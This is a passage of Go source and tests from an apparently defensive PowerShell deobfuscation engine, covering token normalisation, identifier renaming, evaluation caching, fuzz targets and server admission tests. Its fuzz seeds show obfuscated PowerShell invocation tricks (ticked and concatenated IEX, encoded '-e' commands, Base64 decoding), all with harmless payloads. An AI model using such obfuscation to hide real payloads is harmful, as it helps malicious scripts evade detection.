	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/psnames"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// tokenPhase recovers token-level (L1) obfuscation: ticking, random
// case, aliases and parameter casing. Tokens are rewritten from the last
// to the first so earlier offsets stay valid (paper §III-A). The token
// stream and the rewrite's validity check both come from the run's
// parse cache via doc.
func (r *run) tokenPhase(pc *pipeline.PassContext, doc *pipeline.Document) {
	toks, err := docTokens(doc)
	if err != nil {
		return
	}
	src := doc.Text()
	out := src
	changed := 0
	for i := len(toks) - 1; i >= 0; i-- {
		tok := toks[i]
		replacement, ok := canonicalToken(tok)
		if !ok || replacement == tok.Text {
			continue
		}
		out = out[:tok.Start] + replacement + out[tok.End():]
		changed++
	}
	if changed == 0 {
		return
	}
	r.Stats.TokensNormalized += changed
	doc.SetText(pc.ValidOrRevert(doc.View(), out, src))
}

// typeNameArg matches bare-word arguments that are .NET type names
// (net.webclient), safe to lower-case.
var typeNameArg = regexp.MustCompile(`^[A-Za-z]+(\.[A-Za-z]+)+$`)

// canonicalToken computes the normalized text for a token, reporting
// whether the token type is one the phase rewrites.
func canonicalToken(tok pstoken.Token) (string, bool) {
	switch tok.Type {
	case pstoken.Command:
		name := tok.Content // ticks already stripped
		if alias := psnames.ResolveAlias(name); alias != "" {
			return alias, true
		}
		return psnames.CanonicalCommandCase(name), true
	case pstoken.Keyword:
		return strings.ToLower(tok.Content), true
	case pstoken.CommandParameter:
		text := strings.ToLower(pstoken.StripTicks(tok.Text))
		return text, true
	case pstoken.Member:
		return strings.ToLower(tok.Content), true
	case pstoken.Variable:
		return canonicalVariableToken(tok), true
	case pstoken.TypeLiteral:
		return "[" + strings.ToLower(tok.Content) + "]", true
	case pstoken.Operator:
		// Dash operators get canonical lower case; ticked operators are
		// impossible, so only case changes.
		if strings.HasPrefix(tok.Text, "-") && len(tok.Text) > 1 {
			return strings.ToLower(tok.Text), true
		}
		return tok.Text, true
	case pstoken.CommandArgument:
		text := tok.Text
		if tok.HadTicks {
			text = pstoken.StripTicks(text)
		}
		if typeNameArg.MatchString(text) {
			// Type-name arguments (New-Object Net.WebClient) are
			// case-insensitive; base64 and paths are left alone because
			// they contain digits or other characters.
			text = strings.ToLower(text)
		}
		return text, true
	case pstoken.String:
		if tok.Kind == pstoken.DoubleQuoted {
			return normalizeDoubleQuoted(tok.Text), true
		}
		return tok.Text, true
	default:
		return tok.Text, false
	}
}

// canonicalVariableToken lower-cases a variable reference while
// preserving its syntactic form ($name, ${name}, $scope:name).
func canonicalVariableToken(tok pstoken.Token) string {
	text := tok.Text
	if strings.HasPrefix(text, "@") {
		return "@" + strings.ToLower(text[1:])
	}
	if strings.HasPrefix(text, "${") {
		return "${" + strings.ToLower(tok.Content) + "}"
	}
	return "$" + strings.ToLower(strings.TrimPrefix(text, "$"))
}

// meaningfulEscapes are the backtick escapes with semantic value inside
// double-quoted strings; any other backtick is ticking noise.
var meaningfulEscapes = map[byte]bool{
	'0': true, 'a': true, 'b': true, 'e': true, 'f': true, 'n': true,
	'r': true, 't': true, 'v': true, 'u': true, '`': true, '\'': true,
	'"': true, '$': true,
}

// normalizeDoubleQuoted removes cosmetic backticks from a double-quoted
// string literal, keeping real escapes.
func normalizeDoubleQuoted(raw string) string {
	if !strings.Contains(raw, "`") {
		return raw
	}
	var sb strings.Builder
	sb.Grow(len(raw))
	for i := 0; i < len(raw); i++ {
		c := raw[i]
		if c == '`' && i+1 < len(raw) && !meaningfulEscapes[raw[i+1]] {
			continue
		}
		if c == '`' && i+1 < len(raw) {
			sb.WriteByte(c)
			i++
			sb.WriteByte(raw[i])
			continue
		}
		sb.WriteByte(c)
	}
	return sb.String()
}
