package psfront

import (
	"context"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
	"github.com/invoke-deobfuscation/invokedeob/internal/psnames"
)

// newEvalState builds a minimal astState wired to the given eval view,
// mirroring astPhase's construction, so tests can drive evalText
// directly and observe exactly when the interpreter runs.
func newEvalState(t *testing.T, src string, view *pipeline.EvalView) *astState {
	t.Helper()
	opts := &frontend.Options{MaxIterations: 10, StepBudget: 500_000, MaxPieceLen: 1 << 20}
	r := &run{&frontend.Run{
		Opts:      opts,
		Blocklist: psnames.DefaultBlocklist(),
		Stats:     &frontend.Stats{},
		Env:       frontend.NewEnvelope(context.Background(), 0),
	}}
	doc := pipeline.NewDocument(src, pipeline.NewCache(0, 0).View(PS{}))
	return &astState{
		r:         r,
		pc:        &pipeline.PassContext{Doc: doc, Eval: view},
		doc:       doc,
		view:      doc.View(),
		src:       doc.Text(),
		repl:      make(map[psast.Node]string),
		vars:      make(map[string]varEntry),
		safeFuncs: make(map[string]*psast.FunctionDefinition),
	}
}

func rootCtx() visitCtx { return visitCtx{scope: []int{0}} }

// TestEvalTextImpurityBypassesCache proves the determinism gate: a
// piece whose evaluation consults a nondeterminism source must run the
// interpreter on EVERY occurrence. Two evaluations of the same
// Get-Random arithmetic are two interpreter runs — the trace counters
// show two skips, zero hits, zero cacheable misses, and the shared
// cache retains nothing.
func TestEvalTextImpurityBypassesCache(t *testing.T) {
	c := pipeline.NewEvalCache(0, 0)
	v := c.View(PS{})
	s := newEvalState(t, "x", v)
	const piece = "(Get-Random -Minimum 1 -Maximum 10) + 1"
	for i := 0; i < 2; i++ {
		// The result (or DenyHost error) is irrelevant; what matters is
		// that the evaluation was attempted and never memoized.
		s.evalText(piece, rootCtx())
	}
	if v.Hits != 0 || v.Misses != 0 || v.Skips != 2 {
		t.Errorf("trace = %d hits / %d misses / %d skips, want 0/0/2 (two real interpreter runs)",
			v.Hits, v.Misses, v.Skips)
	}
	if st := c.Stats(); st.Entries != 0 {
		t.Errorf("impure result was cached: %+v", st)
	}
}

// TestEvalTextPureResultIsMemoized is the positive counterpart: a pure
// piece runs once and replays from the cache thereafter, with identical
// output values.
func TestEvalTextPureResultIsMemoized(t *testing.T) {
	c := pipeline.NewEvalCache(0, 0)
	v := c.View(PS{})
	s := newEvalState(t, "x", v)
	const piece = "'ab' + 'cd' * 2"
	first, err := s.evalText(piece, rootCtx())
	if err != nil {
		t.Fatal(err)
	}
	second, err := s.evalText(piece, rootCtx())
	if err != nil {
		t.Fatal(err)
	}
	if v.Hits != 1 || v.Misses != 1 || v.Skips != 0 {
		t.Errorf("trace = %d hits / %d misses / %d skips, want 1/1/0", v.Hits, v.Misses, v.Skips)
	}
	if got, want := psinterp.Unwrap(second), psinterp.Unwrap(first); got != want {
		t.Errorf("replayed value %v != original %v", got, want)
	}
}

// TestEvalTextBindingSensitivity drives the same piece text under
// changing traced-variable values: a changed binding must miss (and
// re-evaluate against the new value), and restoring the original value
// must hit again with the original result.
func TestEvalTextBindingSensitivity(t *testing.T) {
	c := pipeline.NewEvalCache(0, 0)
	v := c.View(PS{})
	s := newEvalState(t, "x", v)
	const piece = "$key + '!'"

	s.vars["key"] = varEntry{value: "alpha", scope: []int{0}}
	out, err := s.evalText(piece, rootCtx())
	if err != nil {
		t.Fatal(err)
	}
	if got := psinterp.Unwrap(out); got != "alpha!" {
		t.Fatalf("first eval = %v, want alpha!", got)
	}

	// Same text, different value of the read variable: the cached
	// result must NOT replay.
	s.vars["key"] = varEntry{value: "beta", scope: []int{0}}
	out, err = s.evalText(piece, rootCtx())
	if err != nil {
		t.Fatal(err)
	}
	if got := psinterp.Unwrap(out); got != "beta!" {
		t.Errorf("changed binding replayed a stale result: %v", got)
	}
	if v.Hits != 0 || v.Misses != 2 {
		t.Errorf("trace = %d hits / %d misses, want 0/2", v.Hits, v.Misses)
	}

	// Restoring the original value restores the original cached entry.
	s.vars["key"] = varEntry{value: "alpha", scope: []int{0}}
	out, err = s.evalText(piece, rootCtx())
	if err != nil {
		t.Fatal(err)
	}
	if got := psinterp.Unwrap(out); got != "alpha!" {
		t.Errorf("restored binding = %v, want alpha!", got)
	}
	if v.Hits != 1 {
		t.Errorf("restored binding did not hit: %d hits", v.Hits)
	}
}

// TestEvalTextScopeVisibilityGatesCache asserts that a binding recorded
// in an invisible scope neither preloads nor matches: the same piece
// evaluated from a sibling scope must not replay a result computed with
// a variable that scope cannot see.
func TestEvalTextScopeVisibilityGatesCache(t *testing.T) {
	c := pipeline.NewEvalCache(0, 0)
	v := c.View(PS{})
	s := newEvalState(t, "x", v)
	// Recorded inside scope [0 1]; visible from [0 1], not from [0 2].
	s.vars["inner"] = varEntry{value: "seen", scope: []int{0, 1}}
	const piece = "'' + $inner"

	out, err := s.evalText(piece, visitCtx{scope: []int{0, 1}})
	if err != nil {
		t.Fatal(err)
	}
	if got := psinterp.Unwrap(out); got != "seen" {
		t.Fatalf("visible-scope eval = %v, want seen", got)
	}
	// From the sibling scope the variable is invisible: StrictVars makes
	// the evaluation fail, and crucially it must not hit the cache.
	if _, err := s.evalText(piece, visitCtx{scope: []int{0, 2}}); err == nil {
		t.Error("invisible binding evaluated successfully (cache leaked across scopes?)")
	}
	if v.Hits != 0 {
		t.Errorf("cross-scope lookup hit the cache: %d hits", v.Hits)
	}
}
