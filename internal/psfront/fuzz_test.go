package psfront

import (
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// Native fuzz targets for the PowerShell frontend's lexer and parser.
// `go test` runs the seed corpus; `go test -fuzz` explores further. The
// invariants: no panics and extents in bounds. (The driver-level fuzz
// targets live in internal/core.)

func fuzzSeeds(f *testing.F) {
	seeds := []string{
		"write-host hello",
		"i`ex ('a'+'b')",
		`IEX (("{1}{0}" -f 'llo','he'))`,
		"powershell -e aABpAA==",
		"$a = 'x'; if ($a) { $a } else { exit }",
		"( '1,2' -split ',' | % { [char]([int]$_+64) }) -join ''",
		"\"expand $($x) and $env:PATH\"",
		"@{k='v'}['k']",
		"@'\nhere\n'@",
		"function f($p=3) { $p * 2 }",
		"&('ie'+'x') 'write-host deep'",
		"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA=='))",
		"${weird name} = 1",
		"$x[1..3] -join ''",
		"try { throw 'x' } catch { $_ } finally { 1 }",
	}
	for _, s := range seeds {
		f.Add(s)
	}
}

func FuzzTokenize(f *testing.F) {
	fuzzSeeds(f)
	f.Fuzz(func(t *testing.T, src string) {
		toks, _ := pstoken.Tokenize(src)
		for _, tok := range toks {
			if tok.Start < 0 || tok.End() > len(src) {
				t.Fatalf("token %v out of bounds for input %q", tok, src)
			}
			if src[tok.Start:tok.End()] != tok.Text {
				t.Fatalf("token text mismatch at %d in %q", tok.Start, src)
			}
		}
	})
}

func FuzzParse(f *testing.F) {
	fuzzSeeds(f)
	f.Fuzz(func(t *testing.T, src string) {
		root, err := psparser.Parse(src)
		if err != nil || root == nil {
			return
		}
		ext := root.Extent()
		if ext.Start < 0 || ext.End > len(src) {
			t.Fatalf("root extent %v out of bounds for %q", ext, src)
		}
	})
}
