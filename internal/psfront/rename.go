package psfront

import (
	"fmt"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// renamePhase replaces statistically random variable and function names
// with var{N}/func{N} (paper §III-C). The randomness decision is made on
// the concatenation of all unique names, using the General American
// English vowel ratio (32–42 %) and a minimum letter proportion (10 %).
// The token stream and the function-definition parse both come from the
// run's cache — when phases 1–2 reached a fixpoint, the last ast pass
// already cached this exact text.
func (r *run) renamePhase(pc *pipeline.PassContext, doc *pipeline.Document) {
	toks, err := docTokens(doc)
	if err != nil {
		return
	}
	src := doc.Text()
	varNames := collectVariableNames(toks)
	funcNames := collectFunctionNames(doc)
	if len(varNames)+len(funcNames) == 0 {
		return
	}
	var combined strings.Builder
	for _, n := range varNames {
		combined.WriteString(n)
	}
	for _, n := range funcNames {
		combined.WriteString(n)
	}
	if !IsRandomName(combined.String()) {
		return
	}
	varMap := make(map[string]string, len(varNames))
	for i, n := range varNames {
		varMap[n] = fmt.Sprintf("var%d", i)
	}
	funcMap := make(map[string]string, len(funcNames))
	for i, n := range funcNames {
		funcMap[n] = fmt.Sprintf("func%d", i)
	}
	out := src
	for i := len(toks) - 1; i >= 0; i-- {
		tok := toks[i]
		switch tok.Type {
		case pstoken.Variable:
			key := strings.ToLower(tok.Content)
			if repl, ok := varMap[key]; ok {
				out = out[:tok.Start] + "$" + repl + out[tok.End():]
				r.Stats.IdentifiersRenamed++
			}
		case pstoken.Command, pstoken.CommandArgument:
			key := strings.ToLower(tok.Content)
			if repl, ok := funcMap[key]; ok {
				out = out[:tok.Start] + repl + out[tok.End():]
				r.Stats.IdentifiersRenamed++
			}
		}
	}
	doc.SetText(pc.ValidOrRevert(doc.View(), out, src))
}

// collectVariableNames returns unique user variable names (lower-cased)
// in order of first appearance.
func collectVariableNames(toks []pstoken.Token) []string {
	seen := make(map[string]bool)
	var out []string
	for _, tok := range toks {
		if tok.Type != pstoken.Variable {
			continue
		}
		name := strings.ToLower(tok.Content)
		if strings.Contains(name, ":") || canonicalVarName(name) == "" {
			continue
		}
		if !seen[name] {
			seen[name] = true
			out = append(out, name)
		}
	}
	return out
}

// collectFunctionNames returns user-defined function names (lower-cased)
// in definition order, from the Document's cached AST.
func collectFunctionNames(doc *pipeline.Document) []string {
	root, err := docAST(doc)
	if err != nil {
		return nil
	}
	seen := make(map[string]bool)
	var out []string
	psast.Walk(root, func(n psast.Node) bool {
		if fd, ok := n.(*psast.FunctionDefinition); ok {
			name := strings.ToLower(fd.Name)
			if !seen[name] {
				seen[name] = true
				out = append(out, name)
			}
		}
		return true
	}, nil)
	return out
}

// IsRandomName applies the paper's statistical test to a combined
// identifier string: names are random when letters make up less than
// 10 % of the characters, or the vowel proportion of the letters falls
// outside [32 %, 42 %] (Hayden's General American English estimate is
// 37.4 %).
func IsRandomName(combined string) bool {
	if combined == "" {
		return false
	}
	letters, vowels, total := 0, 0, 0
	for _, r := range combined {
		total++
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z':
			letters++
			switch r {
			case 'a', 'e', 'i', 'o', 'u', 'A', 'E', 'I', 'O', 'U':
				vowels++
			}
		}
	}
	if total == 0 {
		return false
	}
	if float64(letters)/float64(total) < 0.10 {
		return true
	}
	if letters == 0 {
		return true
	}
	ratio := float64(vowels) / float64(letters)
	return ratio < 0.32 || ratio > 0.42
}
