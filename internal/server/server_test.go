package server

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
)

// postResult is one POST's decoded outcome.
type postResult struct {
	status     int
	eb         errorBody // decoded only for >=400 responses
	raw        []byte
	retryAfter string
}

// doPost posts body to url. Goroutine-safe (no testing.T): helpers that
// run inside worker goroutines must not call t.Fatal.
func doPost(client *http.Client, url, body string, header map[string]string) (postResult, error) {
	req, err := http.NewRequest(http.MethodPost, url, strings.NewReader(body))
	if err != nil {
		return postResult{}, err
	}
	req.Header.Set("Content-Type", "application/json")
	for k, v := range header {
		req.Header.Set(k, v)
	}
	resp, err := client.Do(req)
	if err != nil {
		return postResult{}, err
	}
	raw, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		return postResult{}, err
	}
	pr := postResult{status: resp.StatusCode, raw: raw, retryAfter: resp.Header.Get("Retry-After")}
	if resp.StatusCode >= 400 {
		if err := json.Unmarshal(raw, &pr.eb); err != nil {
			return pr, fmt.Errorf("status %d with undecodable error body %q: %v", resp.StatusCode, raw, err)
		}
	}
	return pr, nil
}

// postJSON is doPost for the test's main goroutine: transport failures
// end the test.
func postJSON(t *testing.T, client *http.Client, url string, body string, header map[string]string) postResult {
	t.Helper()
	pr, err := doPost(client, url, body, header)
	if err != nil {
		t.Fatal(err)
	}
	return pr
}

func scriptBody(script string) string {
	b, _ := json.Marshal(scriptRequest{Script: script})
	return string(b)
}

// blockingServer returns a server whose engine work blocks until the
// returned release func is called, so admission and drain behavior can
// be exercised without timing dependence. The release func is safe to
// call multiple times.
func blockingServer(t *testing.T, cfg Config) (*Server, func(), chan struct{}) {
	t.Helper()
	s := New(cfg)
	block := make(chan struct{})
	started := make(chan struct{}, 64)
	s.runSingle = func(ctx context.Context, lang, script string) (*core.Result, error) {
		started <- struct{}{}
		select {
		case <-block:
			return &core.Result{Script: script}, nil
		case <-ctx.Done():
			return nil, limits.FromContext(ctx.Err())
		}
	}
	released := false
	release := func() {
		if !released {
			released = true
			close(block)
		}
	}
	t.Cleanup(release)
	return s, release, started
}

// TestAdmissionControl is the table-driven saturation suite: a server
// with one worker and no queue rejects the overflow request with 429 +
// Retry-After while the in-flight one completes untouched.
func TestAdmissionControl(t *testing.T) {
	cases := []struct {
		name       string
		queueDepth int // -1 = no queue
		inFlight   int // concurrent blocked requests before the probe
		wantStatus int
		wantName   string
	}{
		{"worker busy, no queue -> saturated", -1, 1, http.StatusTooManyRequests, nameSaturated},
		{"worker busy, queue of one full -> saturated", 1, 2, http.StatusTooManyRequests, nameSaturated},
		{"queue has room -> admitted and served", 1, 1, http.StatusOK, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s, release, started := blockingServer(t, Config{Workers: 1, QueueDepth: tc.queueDepth})
			ts := httptest.NewServer(s.Handler())
			defer ts.Close()

			// Fill the worker (and optionally the queue) with blocked work.
			resCh := make(chan int, tc.inFlight)
			for i := 0; i < tc.inFlight; i++ {
				go func() {
					pr, err := doPost(ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host busy"), nil)
					if err != nil {
						t.Error(err)
					}
					resCh <- pr.status
				}()
			}
			// Wait until the first request holds the single worker slot;
			// queued ones sit in the admission window, which fills
			// synchronously before body decode, so a short settle is
			// enough for them to take their tokens.
			<-started
			waitFor(t, func() bool { return len(s.admit) == min(tc.inFlight, cap(s.admit)) })

			probe := make(chan postResult, 1)
			go func() {
				pr, err := doPost(ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host probe"), nil)
				if err != nil {
					t.Error(err)
				}
				probe <- pr
			}()
			if tc.wantStatus == http.StatusOK {
				release() // let the pool drain so the probe is served
			}
			pr := <-probe
			if pr.status != tc.wantStatus {
				t.Fatalf("probe status = %d, want %d", pr.status, tc.wantStatus)
			}
			if tc.wantName != "" {
				if pr.eb.Error.Name != tc.wantName {
					t.Errorf("error name = %q, want %q", pr.eb.Error.Name, tc.wantName)
				}
				if pr.retryAfter == "" {
					t.Error("429 without a Retry-After header")
				}
				if pr.eb.Error.Status != tc.wantStatus {
					t.Errorf("body status echo = %d, want %d", pr.eb.Error.Status, tc.wantStatus)
				}
			}
			release()
			for i := 0; i < tc.inFlight; i++ {
				if got := <-resCh; got != http.StatusOK {
					t.Errorf("in-flight request %d finished with %d, want 200", i, got)
				}
			}
		})
	}
}

// TestDeadlineTaxonomy exercises the per-request deadline paths: both
// an expired deadline while queued and one that fires inside the
// engine surface ErrDeadline (the limits taxonomy name) in the JSON
// body with a 504.
func TestDeadlineTaxonomy(t *testing.T) {
	t.Run("deadline inside engine run", func(t *testing.T) {
		// Real engine, immediately-expired deadline: the run's envelope
		// check trips before any work, the classic ErrDeadline path.
		s := New(Config{Workers: 1})
		ts := httptest.NewServer(s.Handler())
		defer ts.Close()
		pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate",
			scriptBody("Write-Host hi"), map[string]string{TimeoutHeader: "1ns"})
		if pr.status != http.StatusGatewayTimeout {
			t.Fatalf("status = %d, want 504", pr.status)
		}
		if pr.eb.Error.Name != "ErrDeadline" {
			t.Errorf("error name = %q, want ErrDeadline", pr.eb.Error.Name)
		}
	})
	t.Run("deadline while queued for a worker", func(t *testing.T) {
		s, release, started := blockingServer(t, Config{Workers: 1, QueueDepth: 4})
		defer release()
		ts := httptest.NewServer(s.Handler())
		defer ts.Close()
		go doPost(ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host busy"), nil)
		<-started // worker slot held
		pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate",
			scriptBody("Write-Host queued"), map[string]string{TimeoutHeader: "30ms"})
		if pr.status != http.StatusGatewayTimeout {
			t.Fatalf("status = %d, want 504", pr.status)
		}
		if pr.eb.Error.Name != "ErrDeadline" {
			t.Errorf("error name = %q, want ErrDeadline", pr.eb.Error.Name)
		}
		// Release before the deferred ts.Close so it does not wait out
		// the 30s default deadline of the still-blocked busy request.
		release()
	})
	t.Run("client deadline capped at MaxTimeout", func(t *testing.T) {
		s := New(Config{MaxTimeout: 20 * time.Millisecond})
		s.runSingle = func(ctx context.Context, lang, script string) (*core.Result, error) {
			dl, ok := ctx.Deadline()
			if !ok {
				t.Error("no deadline on request context")
			}
			if time.Until(dl) > 25*time.Millisecond {
				t.Errorf("deadline %s away; client bypassed the %s cap", time.Until(dl), 20*time.Millisecond)
			}
			return &core.Result{Script: script}, nil
		}
		ts := httptest.NewServer(s.Handler())
		defer ts.Close()
		pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate",
			scriptBody("Write-Host hi"), map[string]string{TimeoutHeader: "1h"})
		if pr.status != http.StatusOK {
			t.Fatalf("status = %d, want 200", pr.status)
		}
	})
}

// TestGracefulDrain verifies the shutdown contract: once Drain is
// called new requests are refused with 503 while the in-flight request
// runs to completion and gets its full 200 response, and Drain returns
// only after that completion.
func TestGracefulDrain(t *testing.T) {
	s, release, started := blockingServer(t, Config{Workers: 2})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	inFlightDone := make(chan int, 1)
	go func() {
		pr, err := doPost(ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host inflight"), nil)
		if err != nil {
			t.Error(err)
		}
		var rb resultBody
		if pr.status == http.StatusOK {
			if err := json.Unmarshal(pr.raw, &rb); err != nil || rb.Script != "Write-Host inflight" {
				t.Errorf("in-flight response corrupted by drain: %q err=%v", pr.raw, err)
			}
		}
		inFlightDone <- pr.status
	}()
	<-started

	drainDone := make(chan error, 1)
	go func() { drainDone <- s.Drain(context.Background()) }()
	waitFor(t, s.Draining)

	// New work is refused while the old request is still running.
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host late"), nil)
	if pr.status != http.StatusServiceUnavailable {
		t.Fatalf("request during drain: status = %d, want 503", pr.status)
	}
	if pr.eb.Error.Name != nameDraining {
		t.Errorf("error name = %q, want %q", pr.eb.Error.Name, nameDraining)
	}
	if pr.retryAfter == "" {
		t.Error("503 during drain without a Retry-After header")
	}
	// Health flips to draining for load balancers.
	hresp, err := ts.Client().Get(ts.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	var hb healthzBody
	if err := json.NewDecoder(hresp.Body).Decode(&hb); err != nil {
		t.Fatal(err)
	}
	hresp.Body.Close()
	if hresp.StatusCode != http.StatusServiceUnavailable || hb.Status != "draining" {
		t.Errorf("healthz during drain = %d %q, want 503 draining", hresp.StatusCode, hb.Status)
	}

	// Drain must still be waiting on the in-flight request.
	select {
	case err := <-drainDone:
		t.Fatalf("Drain returned (%v) with a request still in flight", err)
	case <-time.After(20 * time.Millisecond):
	}

	release()
	if got := <-inFlightDone; got != http.StatusOK {
		t.Errorf("in-flight request finished with %d, want 200", got)
	}
	if err := <-drainDone; err != nil {
		t.Errorf("Drain = %v, want nil", err)
	}

	// A Drain bounded by an already-short context reports the timeout.
	s2, release2, started2 := blockingServer(t, Config{Workers: 1})
	defer release2()
	ts2 := httptest.NewServer(s2.Handler())
	defer ts2.Close()
	go doPost(ts2.Client(), ts2.URL+"/v1/deobfuscate", scriptBody("Write-Host stuck"), nil)
	<-started2
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
	defer cancel()
	if err := s2.Drain(ctx); err == nil {
		t.Error("Drain with stuck in-flight work and expired budget returned nil")
	}
	// Unblock the stuck request before ts2.Close, which waits for it.
	release2()
}

// TestRequestValidation is the table-driven bad-input suite: every
// admission-side rejection must carry the right status and stable
// error name, with size violations mapped onto ErrInputBudget.
func TestRequestValidation(t *testing.T) {
	s := New(Config{
		MaxBodyBytes:    512,
		MaxScriptBytes:  128,
		MaxBatchScripts: 2,
	})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	big := strings.Repeat("a", 129)
	cases := []struct {
		name       string
		path       string
		body       string
		header     map[string]string
		wantStatus int
		wantName   string
	}{
		{"malformed JSON", "/v1/deobfuscate", "{not json", nil, http.StatusBadRequest, nameBadRequest},
		{"unknown field", "/v1/deobfuscate", `{"scriptz":"x"}`, nil, http.StatusBadRequest, nameBadRequest},
		{"empty script", "/v1/deobfuscate", `{"script":""}`, nil, http.StatusBadRequest, nameBadRequest},
		{"oversize script", "/v1/deobfuscate", scriptBody(big), nil, http.StatusRequestEntityTooLarge, "ErrInputBudget"},
		{"oversize body", "/v1/deobfuscate", scriptBody(strings.Repeat("b", 600)), nil, http.StatusRequestEntityTooLarge, "ErrInputBudget"},
		{"invalid timeout header", "/v1/deobfuscate", scriptBody("Write-Host hi"), map[string]string{TimeoutHeader: "soon"}, http.StatusBadRequest, nameBadRequest},
		{"negative timeout header", "/v1/deobfuscate", scriptBody("Write-Host hi"), map[string]string{TimeoutHeader: "-5s"}, http.StatusBadRequest, nameBadRequest},
		{"invalid syntax", "/v1/deobfuscate", scriptBody("while ("), nil, http.StatusUnprocessableEntity, nameInvalidSyntax},
		{"empty batch", "/v1/batch", `{"scripts":[]}`, nil, http.StatusBadRequest, nameBadRequest},
		{"batch too wide", "/v1/batch", `{"scripts":[{"script":"a"},{"script":"b"},{"script":"c"}]}`, nil, http.StatusRequestEntityTooLarge, "ErrInputBudget"},
		{"batch oversize script", "/v1/batch", fmt.Sprintf(`{"scripts":[{"script":%q}]}`, big), nil, http.StatusRequestEntityTooLarge, "ErrInputBudget"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			pr := postJSON(t, ts.Client(), ts.URL+tc.path, tc.body, tc.header)
			if pr.status != tc.wantStatus {
				t.Errorf("status = %d, want %d", pr.status, tc.wantStatus)
			}
			if pr.eb.Error.Name != tc.wantName {
				t.Errorf("error name = %q, want %q", pr.eb.Error.Name, tc.wantName)
			}
		})
	}

	// Method gating on the work endpoints.
	for _, path := range []string{"/v1/deobfuscate", "/v1/batch"} {
		resp, err := ts.Client().Get(ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusMethodNotAllowed {
			t.Errorf("GET %s = %d, want 405", path, resp.StatusCode)
		}
	}
}

// TestPartialResultOnEnvelopeViolation: when the engine salvages a
// partial result alongside a taxonomy error, the error body carries it.
func TestPartialResultOnEnvelopeViolation(t *testing.T) {
	s := New(Config{})
	s.runSingle = func(ctx context.Context, lang, script string) (*core.Result, error) {
		res := &core.Result{Script: "partial layer"}
		res.Stats.TimedOut = true
		return res, limits.ErrDeadline
	}
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host hi"), nil)
	if pr.status != http.StatusGatewayTimeout {
		t.Fatalf("status = %d, want 504", pr.status)
	}
	if pr.eb.Partial == nil || pr.eb.Partial.Script != "partial layer" {
		t.Fatalf("partial result missing from error body: %+v", pr.eb.Partial)
	}
	if !pr.eb.Partial.Stats.TimedOut {
		t.Error("partial result lost its TimedOut marker")
	}
}

// waitFor polls cond to true, failing the test after a bounded wait.
func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatal("condition not reached within 5s")
		}
		time.Sleep(time.Millisecond)
	}
}

// TestConfigDefaults pins the zero-value resolution.
func TestConfigDefaults(t *testing.T) {
	c := Config{}.withDefaults()
	if c.Workers <= 0 || c.QueueDepth != 64 || c.DefaultTimeout != 30*time.Second ||
		c.MaxTimeout != 2*time.Minute || c.MaxBodyBytes != 8<<20 ||
		c.MaxScriptBytes != 1<<20 || c.MaxBatchScripts != 64 {
		t.Errorf("unexpected defaults: %+v", c)
	}
	if qd := (Config{QueueDepth: -1}).withDefaults().QueueDepth; qd != 0 {
		t.Errorf("QueueDepth -1 should mean no queue, got %d", qd)
	}
}

// TestLayersOptIn: layers appear only with ?layers=1.
func TestLayersOptIn(t *testing.T) {
	s := New(Config{})
	s.runSingle = func(ctx context.Context, lang, script string) (*core.Result, error) {
		return &core.Result{Script: "out", Layers: []string{"l1", "l2"}}, nil
	}
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("x"), nil)
	if bytes.Contains(pr.raw, []byte(`"layers"`)) {
		t.Error("layers included without opt-in")
	}
	var rb resultBody
	pr = postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate?layers=1", scriptBody("x"), nil)
	if err := json.Unmarshal(pr.raw, &rb); err != nil {
		t.Fatal(err)
	}
	if len(rb.Layers) != 2 {
		t.Errorf("layers = %v, want 2 entries", rb.Layers)
	}
}
