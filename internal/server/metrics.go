package server

import (
	"fmt"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"time"
)

// metricsContentType is the Prometheus text exposition format version
// this handler emits.
